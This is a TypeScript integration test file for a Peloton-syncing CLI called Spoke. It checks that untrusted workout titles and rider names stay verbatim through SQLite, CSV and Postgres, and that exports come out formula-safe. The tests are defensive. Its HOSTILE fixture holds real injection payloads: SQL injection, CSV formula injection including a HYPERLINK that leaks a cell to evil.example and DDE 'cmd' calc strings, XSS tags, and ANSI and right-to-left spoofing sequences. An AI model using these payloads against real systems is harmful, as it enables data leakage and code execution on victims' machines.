import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServices } from '../../src/main/services';
import { csvFolder, deliverTargets } from '../../src/main/targets/deliver-targets';
import { fakeEnv, fakePeloton } from '../helpers/fake';
import { startTestPostgres, type TestPostgres } from '../helpers/postgres';
import { spoke } from '../helpers/run-cli';
import { tempDir } from '../helpers/temp-dir';
import { query } from '../sync/kit';
import { csvFiles } from '../targets/kit';

/**
 * Class titles, instructors and riders are text Spoke did not write. Whatever they
 * hold (SQL, spreadsheet formulas, HTML and script, control characters, right-to-left
 * overrides, very long text) is stored verbatim, round-trips through `spoke export`
 * and `spoke import`, reaches Postgres verbatim, and leaves every CSV formula-safe.
 * (The renderer side is e2e/hostile-strings.spec.ts.)
 */

const HOSTILE = {
  sql: "Robert'); DROP TABLE workouts;--",
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  plusCmd: "+cmd|' /C calc'!A0",
  minusCmd: "-2+3+cmd|' /C calc'!A0",
  atSum: '@SUM(1+1)*cmd|" /C calc"!A0',
  tabFormula: '\t=1+1',
  crFormula: '\r=1+1',
  script: '<script>window.__pwned = 1</script>',
  img: '<img src=x onerror="window.__pwned = 1">',
  svg: '"><svg onload=alert(1)>',
  ansi: '\u001b]0;pwned\u0007\u001b[2J\u001b[31mred\u001b[0m',
  controls: 'bell\u0007 back\u0008 vt\u000b ff\u000c del\u007f nel\u0085 ls\u2028',
  rtl: 'Ride \u202Etxt.exe\u202C \u200F\u200E\u2066x\u2069',
  scripts: 'ركوب الدراجة 🚴‍♀️ Zalgo̸̢͓ Café Cafe\u0301',
  quotes: 'Say "hi", then\nleave\r\nnow',
  backslashes: 'C:\\rides\\new\\t.csv \\N \\.',
  long: `Long ${'x'.repeat(5000)}`,
};
const titles = Object.values(HOSTILE);
/** Instructors and riders: the same kinds of text (riders' names are trimmed, so none starts with white space). */
const instructors = [HOSTILE.img, HOSTILE.formula, HOSTILE.ansi, HOSTILE.rtl, null];
const riders = [HOSTILE.sql, HOSTILE.script, `${HOSTILE.atSum} ${HOSTILE.scripts}`];

const FORMULA_START = /^[=+\-@\t\r]/;
const SEED_HEADER = 'workout_id,date,class_title,instructor,class_type,length_min,total_output_kj,rider_name';

/** Plain RFC 4180, as another tool would write it: no formula guard. */
const field = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

type Row = { id: string; title: string; instructor: string | null; rider: string };
const rows: Row[] = titles.map((title, i) => ({
  id: `hostile${i}`,
  title,
  instructor: instructors[i % instructors.length] ?? null,
  rider: riders[i % riders.length] ?? '',
}));

function seedFile(): string {
  const lines = rows.map((r, i) => {
    const date = new Date(Date.UTC(2023, 4, 1 + i, 7, 30)).toISOString().slice(0, 19).replace('T', ' ');
    return [r.id, date, r.title, r.instructor ?? '', 'cycling', '20', `${100 + i}.5`, r.rider]
      .map(field)
      .join(',');
  });
  const path = join(tempDir(), 'hostile.csv');
  writeFileSync(path, `${[SEED_HEADER, ...lines].join('\n')}\n`);
  return path;
}

const env = { SPOKE_SECRET_KEY: 'hostile' };
const stored = (dir: string) =>
  query<Row>(
    dir,
    'SELECT w.id, w.title, w.instructor, r.name AS rider FROM workouts w JOIN riders r ON r.id = w.rider_id ORDER BY w.id',
  );
const expected = [...rows].sort((a, b) => (a.id < b.id ? -1 : 1));

/** Every field of a CSV, parsed by a reader that is not Spoke's. */
const fieldsOf = (text: string): string[][] =>
  parse(text, { bom: true, relax_column_count: true }) as string[][];

function expectFormulaSafe(text: string, where: string) {
  for (const row of fieldsOf(text)) {
    for (const f of row) expect(f, `${where}: ${JSON.stringify(f)}`).not.toMatch(FORMULA_START);
  }
}

let pg: TestPostgres;
beforeAll(async () => {
  pg = await startTestPostgres();
}, 120_000);
afterAll(async () => {
  await pg?.close();
});

describe('hostile text imported from a CSV', () => {
  // One folder for the whole block (tempDir's are removed after each test).
  let dir: string;
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'spoke-hostile-'));
    const run = await spoke(['import', seedFile(), '--data-dir', dir], { env });
    expect(run.code, run.stderr).toBe(0);
  });

  it('is stored verbatim: titles, instructors and riders', () => {
    expect(stored(dir)).toEqual(expected);
    // The statement in the title did not run.
    expect(query(dir, "SELECT name FROM sqlite_master WHERE name = 'workouts'")).toHaveLength(1);
  });

  it('round-trips through spoke export and spoke import, and the exported file is formula-safe', async () => {
    const out = join(tempDir(), 'export.csv');
    expect((await spoke(['export', out, '--data-dir', dir], { env })).code).toBe(0);
    expectFormulaSafe(readFileSync(out, 'utf8'), 'export');
    const again = tempDir();
    const run = await spoke(['import', out, '--data-dir', again], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(stored(again)).toEqual(expected);
  });

  it('round-trips through Peloton’s export layout for one rider too', async () => {
    const rider = riders[0] ?? '';
    const out = join(tempDir(), 'peloton.csv');
    const exported = await spoke(
      ['export', out, '--format', 'peloton-export', '--rider', rider, '--data-dir', dir],
      { env },
    );
    expect(exported.code, exported.stderr).toBe(0);
    expectFormulaSafe(readFileSync(out, 'utf8'), 'peloton export');
    const again = tempDir();
    expect((await spoke(['import', out, '--rider', rider, '--data-dir', again], { env })).code).toBe(0);
    const mine = expected.filter((r) => r.rider === rider);
    expect(stored(again).map(({ title, instructor, rider: r }) => ({ title, instructor, rider: r }))).toEqual(
      expect.arrayContaining(mine.map(({ title, instructor }) => ({ title, instructor, rider }))),
    );
    expect(stored(again)).toHaveLength(mine.length);
  });

  it('writes formula-safe daily CSVs that read back verbatim, and loads Postgres verbatim', async () => {
    const url = await pg.createDatabase();
    const services = createServices({ dataDir: dir, face: 'cli', env: { ...env, SPOKE_DATABASE_URL: url } });
    try {
      const result = await deliverTargets(services, () => () => {});
      expect(result.waiting).toEqual([]);
    } finally {
      services.close();
    }
    const files = csvFiles(dir);
    expect(files.size).toBe(rows.length);
    const copy = tempDir();
    for (const [name, text] of files) {
      expectFormulaSafe(text, name);
      expect((await spoke(['import', join(csvFolder(dir), name), '--data-dir', copy], { env })).code).toBe(0);
    }
    expect(stored(copy)).toEqual(expected);

    const db = new URL(url).pathname.slice(1);
    const loaded = await pg.sql(
      'SELECT workout_id, class_title, instructor, rider_name FROM peloton ORDER BY workout_id',
      db,
    );
    expect(loaded.rows).toEqual(
      expected.map((r) => ({
        workout_id: r.id,
        // The original table's varchar(100): a longer title is cut there (and kept whole in the details' raw JSON).
        class_title: r.title.slice(0, 100),
        instructor: (r.instructor ?? 'no instructor').slice(0, 50),
        rider_name: r.rider.slice(0, 30),
      })),
    );
    expect((await pg.sql("SELECT to_regclass('public.workouts') AS t", db)).rows[0]?.t).toBeNull();
  });

  it('reports print names as JSON verbatim, as CSV formula-safe, and to a terminal without control characters', async () => {
    const json = await spoke(['report', 'instructors', '--tz', 'UTC', '--json', '--data-dir', dir], { env });
    expect(json.code, json.stderr).toBe(0);
    const names = new Set(
      (JSON.parse(json.stdout) as { instructor: string; rider: string }[]).flatMap((r) => [
        r.instructor,
        r.rider,
      ]),
    );
    for (const name of [HOSTILE.img, HOSTILE.formula, HOSTILE.ansi, HOSTILE.rtl, ...riders])
      expect(names).toContain(name);

    const csv = await spoke(['report', 'instructors', '--tz', 'UTC', '--csv', '--data-dir', dir], { env });
    expect(csv.code, csv.stderr).toBe(0);
    expectFormulaSafe(csv.stdout, 'report --csv');
    expect(csv.stdout).toContain(`"'${HOSTILE.formula.replaceAll('"', '""')}"`);

    const table = await spoke(['report', 'instructors', '--tz', 'UTC', '--data-dir', dir], { env });
    expect(table.code, table.stderr).toBe(0);
    // No raw control character reaches the terminal; each shows as a visible escape.
    const controls = [...table.stdout].filter(
      (c) => c !== '\n' && ((c.codePointAt(0) ?? 0) < 0x20 || c === '\u007f'),
    );
    expect(controls).toEqual([]);
    expect(table.stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred\\x1b[0m');
    expect(table.stdout).toContain(HOSTILE.img);
  });
});

describe('a rider named with terminal control sequences', () => {
  it('is listed, and removed, with each control character shown as a visible escape', async () => {
    const dir = tempDir();
    const name = `Ann ${HOSTILE.ansi}`;
    const file = join(tempDir(), 'ann.csv');
    writeFileSync(
      file,
      `${SEED_HEADER}\nann1,2023-05-01 07:30:00,20 min Ride,Ally Love,cycling,20,150.5,${field(name)}\n`,
    );
    expect((await spoke(['import', file, '--data-dir', dir], { env })).code).toBe(0);
    const escaped = 'Ann \\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred\\x1b[0m';
    const rawControls = (text: string) =>
      [...text].filter((c) => c !== '\n' && (c.codePointAt(0) ?? 0) < 0x20);
    const list = await spoke(['rider', 'list', '--data-dir', dir], { env });
    expect(list.stdout).toContain(escaped);
    expect(rawControls(list.stdout)).toEqual([]);
    // --json carries the name itself, escaped as JSON escapes it.
    const json = await spoke(['rider', 'list', '--json', '--data-dir', dir], { env });
    const [ann] = JSON.parse(json.stdout);
    expect(ann.name).toBe(name);
    const removed = await spoke(['rider', 'remove', ann.id, '--data-dir', dir], { env });
    expect(removed.stdout).toBe(`Removed ${escaped} and 1 cached workouts.\n`);
  });
});

describe('hostile text from Peloton', () => {
  it('is stored verbatim from a sync, and the daily CSVs stay formula-safe and read back the same', async () => {
    const riderName = `${HOSTILE.script} ${HOSTILE.sql}`;
    const fake = await fakePeloton({ riders: [{ name: riderName, workouts: 2 }] });
    const dir = tempDir();
    const url = await pg.createDatabase();
    const cliEnv = { ...fakeEnv(fake), ...env, SPOKE_DATABASE_URL: url };
    const account = fake.accounts[0];
    if (!account) throw new Error('no account');
    const peloTitles = [
      HOSTILE.formula,
      HOSTILE.minusCmd,
      HOSTILE.tabFormula,
      HOSTILE.img,
      HOSTILE.ansi,
      HOSTILE.rtl,
      HOSTILE.quotes,
      HOSTILE.backslashes,
    ];
    const added = peloTitles.map((title) =>
      fake.admin.addWorkout(account.userId, { title, kind: 'bike-class' }),
    );
    // U+0000 fits neither Postgres text nor a CSV file: Spoke reads it as U+FFFD, so one such title cannot block every load.
    const nul = fake.admin.addWorkout(account.userId, { title: 'nul\u0000inside', kind: 'bike-class' });
    added.push(nul);
    peloTitles.push('nul\uFFFDinside');
    const signIn = await spoke(
      ['rider', 'add', '--email', account.email, '--password-stdin', '--data-dir', dir],
      {
        env: cliEnv,
        stdin: `${account.password}\n`,
      },
    );
    expect(signIn.code, signIn.stderr).toBe(0);
    const sync = await spoke(['sync', '--data-dir', dir], { env: cliEnv });
    expect(sync.code, sync.stderr).toBe(0);
    const loaded = await pg.sql(
      'SELECT workout_id, class_title FROM peloton',
      new URL(url).pathname.slice(1),
    );
    const inPostgres = new Map(
      loaded.rows.map((r: { workout_id: string; class_title: string }) => [r.workout_id, r.class_title]),
    );
    for (const [i, w] of added.entries())
      expect(inPostgres.get(w.id), w.id).toBe(peloTitles[i]?.slice(0, 100));

    expect(query(dir, 'SELECT name FROM riders')).toEqual([{ name: riderName }]);
    const byId = new Map(
      query<{ id: string; title: string }>(dir, 'SELECT id, title FROM workouts').map((w) => [w.id, w.title]),
    );
    for (const [i, w] of added.entries()) expect(byId.get(w.id), w.id).toBe(peloTitles[i]);

    const copy = tempDir();
    for (const [name, text] of csvFiles(dir)) {
      expectFormulaSafe(text, name);
      expect((await spoke(['import', join(csvFolder(dir), name), '--data-dir', copy], { env })).code).toBe(0);
    }
    const copied = new Map(
      query<{ id: string; title: string }>(copy, 'SELECT id, title FROM workouts').map((w) => [
        w.id,
        w.title,
      ]),
    );
    for (const [i, w] of added.entries()) expect(copied.get(w.id), w.id).toBe(peloTitles[i]);
    expect(query(copy, 'SELECT DISTINCT name FROM riders')).toEqual([{ name: riderName }]);
  });
});
